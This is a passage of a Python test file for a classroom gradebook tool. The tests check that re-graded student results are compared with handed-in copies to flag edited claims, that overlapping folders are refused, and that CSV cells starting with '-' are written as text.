                                        "after the checker wrote it"), flags
    assert "handed in, with no re-grade here: fay.json, junk.json (cannot be read)" in "\n".join(lines), lines
    assert "each compared with its student's file in" in "\n".join(lines)
    # on the command line; folders that overlap are refused in one line
    env = dict(os.environ, **{check.SIGNING_KEY_VAR: key})
    code, out, err = gradebook_cli(str(regrades), f"--handed_in={hand_ins}", env=env)
    assert code == 1 and "9 files" not in out and "6 files, 5 flagged" in out and not err, out + err
    for args in ([str(tmp_path), f"--handed_in={hand_ins}"], [str(regrades), f"--handed_in={regrades}"],
                 [str(regrades), f"--handed_in={tmp_path / 'nowhere'}"]):
        code, out, err = gradebook_cli(*args, env=env)
        assert code == 2 and not out and err.startswith("error: --handed_in=") and err.count("\n") == 1, err


def test_hand_ins_in_a_folder_per_student_are_named_by_their_path(tmp_path):
    """--handed_in=DIR as a platform's download: a folder per student, every file named alike. A hand-in is named by
    its path in DIR in the flags and in the console summary, as the re-grades are: "check-result.json" twice would
    not say which files to look at."""
    regrades, hand_ins = tmp_path / "regrades", tmp_path / "handed-in"
    regrades.mkdir()
    for folder, student in [("erin-1", "erin"), ("erin-2", "erin"), ("fay", "fay")]:
        (hand_ins / folder).mkdir(parents=True)
        result(student, ("ok",), path=hand_ins / folder / check.RESULT_FILE)
    result("erin", ("ok",), path=regrades / "erin.json")
    lines = []
    gradebook.gradebook(str(regrades), str(tmp_path / "book"), out=lines.append, handed_in=str(hand_ins))
    first, again, fay = (os.path.join(s, check.RESULT_FILE) for s in ("erin-1", "erin-2", "fay"))
    assert read_csv(tmp_path / "book.csv")["erin.json"]["flags"] == f"2 files handed in: {first}, {again}"
    assert f"handed in, with no re-grade here: {fay}\n" in "\n".join(lines) + "\n", lines


def test_a_hand_in_that_claims_other_checks_at_the_same_status_is_flagged(tmp_path):
    """Partial credit is part of the grade: a hand-in that says "failed 6/8" where the re-grade of the same starter.py
    says "failed 2/8" was edited, as much as one that says "passed". A folder of re-grades inside the hand-ins' folder
    is refused in one line (its files would be read as hand-ins too)."""
    regrades, hand_ins = tmp_path / "regrades", tmp_path / "handed-in"
    first = os.path.basename(DIRS[0])[:2]
    for folder, passed in ((hand_ins, 6), (regrades, 2)):
        folder.mkdir()
        entry = check.grade_entry(DIRS[0], (passed, 8, "wrong", "trap"), 2.0, "a" * 64)
        date = time.strftime("%Y-%m-%dT%H:%M:%S+0000", time.gmtime(1767254400 + next(RUNS)))
        check.write_result(str(folder / "ann.json"), check.grade_result([entry], date=date, student="ann"))
    gradebook.gradebook(str(regrades), str(tmp_path / "book"), out=lambda line: None, handed_in=str(hand_ins))
    assert read_csv(tmp_path / "book.csv")["ann.json"]["flags"] == \
        f"the hand-in ann.json says otherwise at {first} (failed 6/8 there, failed 2/8 here, the same starter.py)"
    (regrades / "ann.json").rename(hand_ins / "regrades.json")
    (hand_ins / "regrades").mkdir()
    (hand_ins / "regrades.json").rename(hand_ins / "regrades" / "ann.json")
    code, out, err = gradebook_cli(str(hand_ins / "regrades"), f"--handed_in={hand_ins}")
    assert code == 2 and not out and err.startswith("error: --handed_in=") and "overlap" in err, out + err


def test_hints_a_timeout_and_a_leading_minus_are_shown(tmp_path):
    """The Markdown cell says how far into the hints the student asked ("3 hints", "1 hint": the last gives the
    answer); an exercise that ran out of time has its reason listed below the table, as a failed one has; a CSV cell
    that starts with "-" (which a spreadsheet runs as a formula: -1+2) is written as text."""
    folder = tmp_path / "class"
    folder.mkdir()
    first, second = (os.path.basename(d)[:2] for d in DIRS[:2])
    entries = [check.grade_entry(DIRS[0], (2, 8, "wrong", "trap"), 2.0, hints={first: 3}, reason="-1+2"),
               check.grade_entry(DIRS[1], (0, 8, "timeout", "slow"), 2.0, hints={second: 1},
                                 reason="did not finish within 60 s")]
    check.write_result(str(folder / "ann.json"), check.grade_result(entries, date="2026-01-01T00:00:00+0000",
                                                                    student="-ann"))
    gradebook.gradebook(str(folder), str(tmp_path / "book"), out=lambda line: None)
    row = read_csv(tmp_path / "book.csv")["ann.json"]
    assert (row["student"], row[f"{first} reason"], row[f"{first} hints_seen"]) == ("'-ann", "'-1+2", "3"), row
    markdown = (tmp_path / "book.md").read_text(encoding="utf-8")
    cells = next(line for line in markdown.splitlines() if line.startswith("| -ann | ann.json |")).split(" | ")
    assert cells[6:8] == ["failed 2/8 at trap, 3 hints", "timeout 0/8 at slow, 1 hint"], cells
    assert f"- -ann (ann.json), {second}: timeout at slow: did not finish within 60 s" in markdown.splitlines()


def test_a_sealed_file_whose_exercises_are_not_entries_is_a_row(tmp_path):
    """A file with a seal whose "exercises" holds something other than entries (a number, a list) is "not a result
    file": a row, not a traceback."""
    for n, exercises in enumerate(([1], [["01", "passed"]], "all")):
        folder = tmp_path / f"class{n}"
        folder.mkdir()
        odd = {"student": "Ann", "exercises": exercises}
        (folder / "ann.json").write_text(json.dumps(dict(odd, seal=check.seal(odd))), encoding="utf-8")
        assert gradebook.gradebook(str(folder), str(tmp_path / f"book{n}"), out=lambda line: None) == 1
        assert read_csv(tmp_path / f"book{n}.csv")["ann.json"]["flags"] == "not a result file"
